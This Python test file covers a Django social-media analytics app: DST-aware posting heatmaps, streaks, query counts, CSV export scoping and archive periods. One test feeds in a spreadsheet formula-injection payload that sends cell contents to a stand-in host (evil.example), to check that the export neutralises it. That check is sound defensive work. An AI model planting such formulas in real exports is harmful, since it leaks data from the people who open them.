from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, time, timedelta
from zoneinfo import ZoneInfo

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from analytics import selectors
from calendar_app.models import PostingSlot
from posts.models import Post
from posts.rules import text_hash
from posts.services import recompute_performance
from tests.factories import PersonaFactory, PostFactory

LISBON = ZoneInfo("Europe/Lisbon")


def test_the_heatmap_reads_local_time_across_a_dst_change(persona):
    # Fridays at 09:00 in Lisbon: 09:00 UTC in winter, 08:00 UTC after the clocks go forward
    winter = [date(2026, 3, 6), date(2026, 3, 13), date(2026, 3, 20)]
    summer = [date(2026, 4, 3), date(2026, 4, 10), date(2026, 4, 17)]
    for day in winter + summer:
        PostFactory(persona=persona, posted_at=datetime.combine(day, time(9, 0), tzinfo=LISBON))
    recompute_performance(persona_id=persona.pk)
    times = selectors.posting_times(persona)
    friday = dict(times["grid"])["Fri"]
    cells = {hour: cell for hour, cell in friday if cell}
    assert list(cells) == [9] and cells[9].posts == 6
    assert [(b["weekday"], b["hour"]) for b in times["best"]] == [("Fri", 9)]


def test_a_time_with_too_few_posts_is_never_advised(persona):
    for day in (date(2026, 3, 6), date(2026, 3, 13)):
        PostFactory(persona=persona, posted_at=datetime.combine(day, time(9, 0), tzinfo=LISBON))
    recompute_performance(persona_id=persona.pk)
    times = selectors.posting_times(persona)
    assert times["too_few"] and times["best"] == []


def test_streaks_count_weeks_that_meet_the_schedule(persona):
    for weekday in (1, 3):
        PostingSlot.objects.create(persona=persona, weekday=weekday, time=time(9))
    today = datetime.now(LISBON).date()
    monday = today - timedelta(days=today.weekday())

    def posts_in(week_offset: int, count: int) -> None:
        for n in range(count):
            day = monday - timedelta(weeks=week_offset) + timedelta(days=n)
            moment = datetime.combine(day, time(12), tzinfo=LISBON)
            PostFactory(persona=persona, posted_at=min(moment, datetime.now(UTC)))

    posts_in(1, 2)
    posts_in(2, 3)
    posts_in(3, 1)  # short: breaks the run
    for week in (4, 5, 6, 7):
        posts_in(week, 2)
    streak = selectors.streaks(persona)
    assert streak == {"current": 2, "longest": 4, "target": 2}


def test_the_analytics_page_keeps_its_query_count_as_posts_grow(owner_client, persona):
    def grow(count: int) -> None:
        start = Post.objects.filter(persona=persona).count()
        now = datetime.now(UTC)
        Post.objects.bulk_create(
            Post(
                persona=persona,
                text=f"Post {n} about pricing and patience",
                text_hash=text_hash(f"Post {n} about pricing and patience"),
                content_type="short",
                posted_at=now - timedelta(hours=7 * n),
                likes=(n * 37) % 500,
            )
            for n in range(start, start + count)
        )
        recompute_performance(persona_id=persona.pk)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert owner_client.get(reverse("analytics")).status_code == 200
        return len(captured)

    queries()  # once first: from then on the bell's count is read from the cache
    grow(100)
    few = queries()
    grow(9_900)
    assert queries() == few


def test_the_csv_export_has_every_post_of_this_persona_only(owner_client, persona, workspace):
    PostFactory(persona=persona, text="Mine, with a comma, and “quotes”", likes=7)
    PostFactory(persona=PersonaFactory(workspace=workspace, name="Aaa first"), text="Another's")
    session = owner_client.session
    session[f"persona_id:{workspace.pk}"] = persona.pk  # the persona chosen in the switcher
    session.save()
    answer = owner_client.get(reverse("analytics_export"))
    assert answer["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode())))
    assert rows[0][:5] == ["posted_at", "text", "content_type", "impressions", "likes"]
    assert [r[1] for r in rows[1:]] == ["Mine, with a comma, and “quotes”"]
    assert rows[1][4] == "7"


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(owner_client, persona):
    # Both in the export's default period (the factory's dates are random within the year).
    yesterday = datetime.now(UTC) - timedelta(days=1)
    PostFactory(
        persona=persona,
        text='=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        posted_at=yesterday,
    )
    PostFactory(persona=persona, text="@SUM(1+1)", posted_at=yesterday)
    answer = owner_client.get(reverse("analytics_export"))
    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode())))
    texts = sorted(row[1] for row in rows[1:])
    assert texts == ['\'=HYPERLINK("http://evil.example/?d="&A1,"Click")', "'@SUM(1+1)"]


def test_the_workspace_page_sums_up_each_persona(owner_client, persona, workspace):
    other = PersonaFactory(workspace=workspace, name="Second voice")
    yesterday = datetime.now(UTC) - timedelta(days=1)
    PostFactory(persona=persona, likes=10, comments=None, reposts=None, posted_at=yesterday)
    PostFactory(persona=persona, likes=30, comments=None, reposts=None, posted_at=yesterday)
    PostFactory(persona=other, likes=None, comments=None, reposts=None, posted_at=yesterday)
    PostFactory(persona=PersonaFactory(), likes=999)  # another workspace: never shown
    page = owner_client.get(reverse("analytics_workspace"))
    lines = {line["persona"].name: line for line in page.context["summary"]}
    assert set(lines) == {persona.name, "Second voice"}
    assert lines[persona.name]["posts"] == 2 and lines[persona.name]["interactions"] == 20
    assert lines["Second voice"]["interactions"] is None


def test_an_archive_from_years_ago_shows_its_numbers_and_the_period_is_remembered(
    owner_client, persona, workspace
):
    for n in range(100):  # an imported archive from 2015
        PostFactory(
            persona=persona,
            posted_at=datetime(2015, 3, 1, 10, tzinfo=UTC) + timedelta(days=3 * n),
            likes=10 + n,
        )
    session = owner_client.session
    session[f"persona_id:{workspace.pk}"] = persona.pk
    session.save()
    page = owner_client.get(reverse("analytics")).content.decode()
    assert "No posts with numbers" not in page  # nothing recent: all time by default
    assert "All time" in page and "Month" in page  # years of posts are counted by month
    recent = owner_client.get(reverse("analytics"), {"range": "30d"}).content.decode()
    assert "No posts with numbers in this period" in recent and "show all time" in recent
    # Remembered for this persona: the next visit (and the export) keeps the last 30 days.
    again = owner_client.get(reverse("analytics")).content.decode()
    assert "Last 30 days" in again and "No posts with numbers in this period" in again
    export = owner_client.get(reverse("analytics_export"))
    assert len(b"".join(export.streaming_content).decode().splitlines()) == 1  # the header
    custom = owner_client.get(
        reverse("analytics"), {"range": "custom", "start": "2015-03-01", "end": "2015-03-31"}
    ).content.decode()
    assert "1 Mar 2015 to 31 Mar 2015" in custom and "Week of" in custom
    weeks = selectors.weekly_engagement(
        persona, selectors.period_of(persona, "custom", date(2015, 3, 1), date(2015, 3, 31))
    )
    assert sum(w["posts"] for w in weeks) == 11  # every third day of March
